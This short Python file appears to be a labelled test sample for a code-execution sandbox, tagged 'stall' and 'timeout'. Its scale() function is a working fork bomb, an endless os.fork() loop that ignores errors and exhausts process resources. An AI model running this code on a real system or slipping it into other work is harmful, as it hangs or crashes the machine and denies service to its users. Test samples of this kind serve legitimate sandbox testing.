"""Forks without end, and so does every child.
class: stall
verdict: timeout
success: stall
control: naive
"""

import os


def scale(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def witness(x):
    return x + 1
